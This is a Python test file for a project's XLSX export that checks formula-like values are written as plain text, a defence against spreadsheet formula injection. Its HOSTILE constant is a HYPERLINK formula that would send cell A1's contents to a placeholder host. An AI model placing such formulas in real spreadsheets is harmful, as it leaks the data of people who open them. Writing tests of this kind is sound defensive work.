"""A text recorded as data that begins like a formula (a unit named "=HYPERLINK(…)" by reorganiseUnits' newName or a
mutation; the mapping file refuses it, the API does not) is written into an XLSX register as text, never as a formula
a spreadsheet would run (issue 17, review: CSV/formula injection)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from isotrail.services.documents.xlsx import render_xlsx

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Sở Tư pháp")'


def test_a_text_that_looks_like_a_formula_is_written_as_text() -> None:
    body = {"title": HOSTILE, "subtitle": "=1+1", "columns": ["Đơn vị", "Ghi chú"], "widths": [30, 30],
            "rows": [[HOSTILE, "+1"], ["-2", "@SUM(A1)"]]}
    book = load_workbook(io.BytesIO(render_xlsx({"body": body})))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if cell.value == HOSTILE] == [HOSTILE, HOSTILE]
